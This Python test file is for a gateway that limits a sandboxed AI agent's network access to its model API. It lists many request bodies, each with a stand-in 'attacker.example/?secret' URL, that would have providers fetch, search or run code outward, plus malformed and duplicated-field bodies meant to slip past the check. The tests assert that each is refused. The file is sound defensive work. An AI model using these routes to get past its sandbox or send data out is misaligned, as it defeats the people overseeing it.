"""A task that may reach nothing but its model API, and asks that API to reach the world for it."""

from __future__ import annotations

import asyncio
import gzip
import json
from collections.abc import AsyncGenerator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx2
import pytest

from rover_mcp.domain.network_policy import IF_ALLOWED, NetworkMode, NetworkPolicy
from rover_mcp.gateway.gateway import Gateway
from rover_mcp.gateway.grant import GatewayGrant
from rover_mcp.gateway.refusals import RefusedHost
from tests.support.fake_models import FakeModels
from tests.unit.gateway.open_gateway import TASK, TOKEN, access_to

Json = dict[str, Any]
HEADERS = {"x-api-key": TOKEN}
NOTHING: Json = {}
PAGE = "https://attacker.example/?secret"
MESSAGES, RESPONSES = "/anthropic/v1/messages", "/openai/v1/responses"
CHAT, GENERATE = "/openai/v1/chat/completions", "/google/v1beta/models/gem:generateContent"
COUNT = "/anthropic/v1/messages/count_tokens"


@dataclass
class EscapeRoute:
    client: httpx2.AsyncClient
    provider: FakeModels
    refused: list[RefusedHost] = field(default_factory=list[RefusedHost])


@asynccontextmanager
async def way(path: Path, mode: NetworkMode = NetworkMode.PROVIDERS) -> AsyncGenerator[EscapeRoute]:
    with FakeModels() as provider:
        urls = {"anthropic": "anthropic", "openai": "openai/v1", "google": "google"}
        refused: list[RefusedHost] = []
        gateway = Gateway()
        await gateway.open(
            GatewayGrant(
                task_id=TASK,
                attempt=1,
                socket_path=path,
                token=TOKEN,
                providers=frozenset(urls),
                credentials=lambda name: access_to(f"{provider.url}/{urls[name]}"),
                on_bell=lambda _: None,
                on_answer=lambda _task, _answer: None,
                network=NetworkPolicy(mode=mode),
                on_refused=lambda _, host: refused.append(host),
            )
        )
        transport = httpx2.AsyncHTTPTransport(uds=str(path))
        async with httpx2.AsyncClient(
            transport=transport, base_url="http://g", headers=HEADERS, timeout=300
        ) as client:
            yield EscapeRoute(client, provider, refused)
        await gateway.aclose()


def play(
    path: Path, work: Callable[[EscapeRoute], Any], mode: NetworkMode = NetworkMode.PROVIDERS
) -> None:
    async def run() -> None:
        async with way(path / "g.sock", mode) as here:
            await asyncio.wait_for(work(here), 300)

    asyncio.run(run())


def user(content: object) -> Json:
    return {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": content}]}


def anthropic_tool(**tool: object) -> Json:
    return {**user("x"), "tools": [{"name": "Bash", "input_schema": NOTHING}, tool]}


def items(*found: object, **more: object) -> Json:
    return {"model": "m", "input": list(found), **more}


def said(*parts: object) -> Json:
    return items({"role": "user", "content": list(parts)})


def gemini(*parts: object, **more: object) -> Json:
    return {"contents": [{"role": "user", "parts": list(parts)}], **more}


def in_result(block: Json) -> Json:
    """Where an agent would hide it."""
    return user([{"type": "tool_result", "tool_use_id": "t", "content": [block]}])


URL_SOURCE = {"type": "url", "url": PAGE}
ATTEMPTS: list[tuple[str, Json]] = [
    (MESSAGES, {**user("x"), "mcp_servers": [{"type": "url", "url": PAGE, "name": "m"}]}),
    (MESSAGES, {**user("x"), "container": "c"}),
    (MESSAGES, anthropic_tool(type="web_fetch_20250910", name="web_fetch")),
    (MESSAGES, anthropic_tool(type="web_search_20250305", name="web_search")),
    (MESSAGES, anthropic_tool(type="web_fetch_20991231", name="web_fetch")),
    (MESSAGES, anthropic_tool(type="code_execution_20250825", name="code_execution")),
    (MESSAGES, anthropic_tool(type="mcp_toolset", mcp_server_name="m")),
    (MESSAGES, anthropic_tool(type="advisor_20260301", name="advisor")),
    (MESSAGES, user([{"type": "image", "source": URL_SOURCE}])),
    (MESSAGES, user([{"type": "document", "source": URL_SOURCE}])),
    (MESSAGES, user([{"type": "document", "source": {"type": "file", "file_id": "f"}}])),
    (MESSAGES, user([{"type": "container_upload", "file_id": "f"}])),
    (MESSAGES, in_result({"type": "image", "source": URL_SOURCE})),
    (MESSAGES, {**user("x"), "system": [{"type": "image", "source": URL_SOURCE}]}),
    (COUNT, user([{"type": "image", "source": URL_SOURCE}])),
    (MESSAGES, {**user("x"), "something_new": {"url": PAGE}}),
    (RESPONSES, items(tools=[{"type": "web_search"}])),
    (RESPONSES, items(tools=[{"type": "web_search_preview"}])),
    (RESPONSES, items(tools=[{"type": "mcp", "server_url": PAGE, "server_label": "m"}])),
    (RESPONSES, items(tools=[{"type": "code_interpreter", "container": {"type": "auto"}}])),
    (RESPONSES, items(tools=[{"type": "file_search", "vector_store_ids": ["v"]}])),
    (RESPONSES, items(tools=[{"type": "image_generation"}])),
    (RESPONSES, items(tools=[{"type": "computer_use_preview"}])),
    (RESPONSES, items(tools=[{"type": "shell", "environment": {"type": "container_auto"}}])),
    (RESPONSES, items({"type": "additional_tools", "tools": [{"type": "web_search"}]})),
    (
        RESPONSES,
        items(tools=[{"type": "namespace", "name": "n", "tools": [{"type": "mcp"}]}]),
    ),
    (RESPONSES, said({"type": "input_image", "image_url": PAGE})),
    (RESPONSES, said({"type": "input_image", "file_id": "f"})),
    (RESPONSES, said({"type": "input_file", "file_url": PAGE})),
    (RESPONSES, said({"type": "input_file", "file_id": "f"})),
    (
        RESPONSES,
        items(
            {
                "type": "function_call_output",
                "call_id": "c",
                "output": [{"type": "input_image", "image_url": PAGE}],
            }
        ),
    ),
    (RESPONSES, items(background=True)),
    (RESPONSES, items(store=True)),
    (RESPONSES, items(conversation="c")),
    (RESPONSES, items(previous_response_id="r")),
    (RESPONSES, items(prompt={"id": "p"})),
    (RESPONSES, items({"type": "item_reference", "id": "i"})),
    (RESPONSES, items(tool_choice={"type": "web_search"})),
    (RESPONSES, {"model": "o4-mini-deep-research", "input": "x"}),
    (f"{RESPONSES}/compact", said({"type": "input_image", "image_url": PAGE})),
    (CHAT, {**user("x"), "web_search_options": NOTHING}),
    (CHAT, {**user("x"), "model": "gpt-4o-search-preview"}),
    (CHAT, {**user("x"), "enable_search": True}),
    (CHAT, {**user("x"), "plugins": [{"id": "web"}]}),
    (CHAT, {**user("x"), "store": True}),
    (CHAT, {**user("x"), "tools": [{"type": "mcp", "server_url": PAGE}]}),
    (CHAT, user([{"type": "image_url", "image_url": {"url": PAGE}}])),
    (CHAT, user([{"type": "image_url", "image_url": {"url": f" data:,{PAGE}"}}])),
    (CHAT, user([{"type": "image_url", "image_url": PAGE}])),
    (CHAT, user([{"type": "file", "file": {"file_id": "f"}}])),
    (CHAT, user([{"type": "video_url", "video_url": {"url": PAGE}}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"urlContext": NOTHING}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"url_context": NOTHING}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"googleSearch": NOTHING}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"google_search_retrieval": NOTHING}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"codeExecution": NOTHING}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"googleMaps": NOTHING}])),
    (GENERATE, gemini({"text": "x"}, tools=[{"fileSearch": NOTHING}])),
    (
        GENERATE,
        gemini({"text": "x"}, tools=[{"functionDeclarations": [NOTHING], "googleSearch": NOTHING}]),
    ),
    (GENERATE, gemini({"fileData": {"fileUri": PAGE}})),
    (GENERATE, gemini({"file_data": {"file_uri": PAGE}})),
    (GENERATE, gemini({"text": "x"}, cachedContent="cachedContents/c")),
    (GENERATE, gemini({"text": "x"}, cached_content="cachedContents/c")),
    (GENERATE, gemini({"text": "x"}, systemInstruction={"parts": [{"fileData": NOTHING}]})),
    (
        GENERATE,
        gemini({"functionResponse": {"name": "f", "parts": [{"fileData": {"fileUri": PAGE}}]}}),
    ),
]


@pytest.mark.known_escape(4)
def test_nothing_that_a_provider_would_do_or_fetch_is_asked_of_it(tmp_path: Path) -> None:
    """U5, B.6. Each succeeded at 700cc57: the mode looked at hosts, and let every body pass. The
    refusal is in the API's own form and is recorded with the setting that would allow it."""

    async def work(here: EscapeRoute) -> None:
        for path, body in ATTEMPTS:
            del here.refused[:]
            answer = await here.client.post(path, json=body)
            assert answer.status_code == 400, (path, body)
            assert "network: allowlist" in answer.json()["error"]["message"]
            assert here.provider.session("").requests == [], (path, body)
            [refused] = here.refused
            assert refused.remedy == f"network: allowlist, or open, {IF_ALLOWED}"
            assert path.split("/")[1] in refused.host

    play(tmp_path, work)


def test_what_the_agents_ask_is_let_through(tmp_path: Path) -> None:
    """The same fields, where they stay within the request. What the six real programs send was
    looked at, too: docs/network.md."""
    good: list[tuple[str, Json]] = [
        (MESSAGES, {**user([{"type": "image", "source": {"type": "base64", "data": "eA=="}}])}),
        (MESSAGES, anthropic_tool(type="custom", name="Write", input_schema={"url": PAGE})),
        (MESSAGES, user(f"please fetch {PAGE}")),
        (RESPONSES, said({"type": "input_image", "image_url": "data:image/png;base64,eA=="})),
        (RESPONSES, items(store=False, background=False, previous_response_id=None)),
        (CHAT, user([{"type": "image_url", "image_url": {"url": "data:image/png;base64,eA"}}])),
        (GENERATE, gemini({"inline_data": {"mime_type": "image/png", "data": "eA=="}})),
        (GENERATE, gemini({"text": "x"}, tools=[{"function_declarations": [{"name": "f"}]}])),
    ]

    async def work(here: EscapeRoute) -> None:
        for path, body in good:
            answer = await here.client.post(path, json=body)
            assert answer.status_code == 200, (path, body, answer.text)
        assert here.refused == []
        seen = [r.body for r in here.provider.session("").requests]
        assert seen == [body for _, body in good]

    play(tmp_path, work)


def test_the_search_that_codex_offers_unasked_is_taken_out(tmp_path: Path) -> None:
    """Refused, codex could not be used in this mode at all."""
    mine = {"type": "function", "name": "exec_command", "parameters": NOTHING}

    async def work(here: EscapeRoute) -> None:
        offered = items(tools=[mine, {"type": "web_search", "external_web_access": True}])
        answer = await here.client.post(RESPONSES, json=offered)
        assert answer.status_code == 200
        [seen] = here.provider.session("").requests
        assert seen.body["tools"] == [mine]
        [refused] = here.refused
        assert "web_search" in refused.host

    play(tmp_path, work)


@pytest.mark.known_escape(18)
@pytest.mark.parametrize(
    "content",
    [
        gzip.compress(json.dumps(user("x")).encode()),
        json.dumps(user("x")).encode("utf-16"),
        b"\xef\xbb\xbf" + json.dumps(user("x")).encode(),
        json.dumps(user("x")).encode().replace(b'"x"', b'"\xff"'),
        b"model=m&mcp_servers=x",
        b"[]",
        b"",
        b"--b\r\ncontent-disposition: form-data; name=x\r\n\r\n{}\r\n--b--",
        b'{"a":' * 100_000,
        b'{"model": "m", "messages": ' + b"[" * 900 + b"]" * 900 + b"}",
        b'{"model": NaN, "messages": []}',
        b'{"model": "m", "messages": [], "temperature": 1e999}',
        b'{"model": "m", "messages": []} {"mcp_servers": []}',
    ],
    ids=[
        *("gzip", "utf-16", "bom", "latin-1", "form", "list", "empty", "multipart"),
        *("unclosed", "deep", "nan", "infinite", "two"),
    ],
)
def test_a_body_that_two_could_read_differently_goes_nowhere(
    tmp_path: Path, content: bytes
) -> None:
    """B.6. Succeeded at 700cc57: whatever it was, it passed."""

    async def work(here: EscapeRoute) -> None:
        for headers in (NOTHING, {"content-encoding": "gzip"}, {"content-type": "text/plain"}):
            answer = await here.client.post(MESSAGES, content=content, headers=headers)
            assert answer.status_code == 400
            assert answer.json()["error"]["type"] == "invalid_request_error"
        assert here.provider.session("").requests == []

    play(tmp_path, work)


def test_what_was_judged_is_what_is_sent(tmp_path: Path) -> None:
    """B.6: of a field that stands there twice the provider sees the one that was judged, however
    its name is written; in chunks as in one piece."""
    twice = (
        b'{"mcp_servers": [{"url": "https://a.example"}], "model": "m", "max_tokens": 5,'
        b' "tools": [{"type": "web_fetch_20250910"}], "t\\u006fols": [], "messages": [], '
        b'"mcp_servers": null}'
    )

    async def chunks() -> AsyncGenerator[bytes]:
        for at in range(0, len(twice), 7):
            yield twice[at : at + 7]

    async def work(here: EscapeRoute) -> None:
        for content in (twice, chunks()):
            answer = await here.client.post(MESSAGES, content=content)
            assert answer.status_code == 400
        tools = twice.replace(b'"mcp_servers": [{"url": "https://a.example"}], ', b"")
        passed = await here.client.post(
            MESSAGES, content=tools.replace(b', "mcp_servers": null', b"")
        )
        assert passed.status_code == 200
        [seen] = here.provider.session("").requests
        assert seen.body == {"model": "m", "max_tokens": 5, "tools": [], "messages": []}

    play(tmp_path, work)


@pytest.mark.known_escape(4, 6)
def test_features_that_fetch_are_not_named_in_a_header_either(tmp_path: Path) -> None:
    """B.6. Succeeded at 700cc57. What is not known is taken out, and recorded."""
    named = "claude-code-20250219, mcp-client-2025-11-20,effort-2025-11-24,files-api-2025-04-14"
    more = "web-fetch-2025-09-10,new-thing-2027-01-01,claude-code-20250219 x"

    async def work(here: EscapeRoute) -> None:
        headers = [("anthropic-beta", named), ("anthropic-beta", more), ("x-api-key", TOKEN)]
        await here.client.post(MESSAGES, json=user("x"), headers=headers)
        [seen] = here.provider.session("").requests
        assert seen.headers["anthropic-beta"] == "claude-code-20250219,effort-2025-11-24"
        told = " ".join(refused.host for refused in here.refused)
        for beta in ("mcp-client", "files-api", "web-fetch", "new-thing"):
            assert f"anthropic: anthropic-beta: {beta}" in told

    play(tmp_path, work)


def test_in_the_other_modes_the_same_passes_unread(tmp_path: Path) -> None:
    """There the world can be reached anyway, and docs/network.md says so of these tools."""

    async def work(here: EscapeRoute) -> None:
        body = anthropic_tool(type="web_fetch_20250910", name="web_fetch")
        answer = await here.client.post(MESSAGES, json=body, headers={"anthropic-beta": "x-2025"})
        assert answer.status_code == 200
        [seen] = here.provider.session("").requests
        assert seen.body == body
        assert seen.headers["anthropic-beta"] == "x-2025"

    play(tmp_path, work, NetworkMode.ALLOWLIST)
